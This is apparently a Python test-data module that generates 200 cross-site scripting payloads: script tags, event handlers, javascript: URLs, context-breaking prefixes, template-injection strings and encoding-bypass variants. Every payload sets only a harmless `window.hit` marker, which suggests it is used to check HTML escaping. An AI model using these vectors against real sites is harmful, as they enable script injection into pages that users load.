"""Two hundred texts that would run as a program in a page that does not escape them: each sets `window.hit`, or would ask a server for something."""

from __future__ import annotations

from itertools import product

_RUN = "window.hit=1"
_TAGS = [
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg><script>{x}</script></svg>", "<body onload={x}>", "<iframe srcdoc='<script>parent.{x}</script>'>",
    "<input autofocus onfocus={x}>", "<details open ontoggle={x}>", "<video src=x onerror={x}></video>", "<audio src=x onerror={x}>", "<math><mtext><script>{x}</script></mtext></math>",
    "<a href='javascript:{x}' id=x autofocus>x</a>", "<form action='javascript:{x}'><button>x</button></form>", "<object data='javascript:{x}'></object>", "<embed src='javascript:{x}'>",
    "<link rel=stylesheet href='data:text/css,*{{background:red}}'>", "<meta http-equiv=refresh content='0;url=javascript:{x}'>", "<base href='javascript:{x}//'>", "<style>*{{x:expression({x})}}</style>",
    "<marquee onstart={x}>", "<template><script>{x}</script></template>", "<noscript><p title='</noscript><img src=x onerror={x}>'>", "<select autofocus onfocus={x}>", "<textarea autofocus onfocus={x}>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>", "<svg><set onbegin={x} attributeName=x>", "<img srcset=x onerror={x}>", "<picture><source srcset=x><img onerror={x} src=x></picture>",
]  # fmt: skip
_AROUND = ["{t}", "\"'>{t}", "</title></textarea></script></style>{t}", "--><!--{t}", "]]>{t}", "</h1></p></span>{t}<span>", "\u2028{t}"]
_OTHER = [
    "{{7*7}}{{config}}", "{% for x in y %}", "${window.hit=1}", "javascript:window.hit=1", "\" onmouseover=\"window.hit=1\" x=\"", "' autofocus onfocus='window.hit=1", "`${window.hit=1}`",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e", "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script&#62;window.hit=1&#60;/script&#62;", "<ſcript>window.hit=1</ſcript>", "＜script＞window.hit=1＜/script＞",
]  # fmt: skip

PAYLOADS = tuple([around.format(t=tag.format(x=_RUN)) for around, tag in product(_AROUND, _TAGS)][: 200 - len(_OTHER)] + _OTHER)
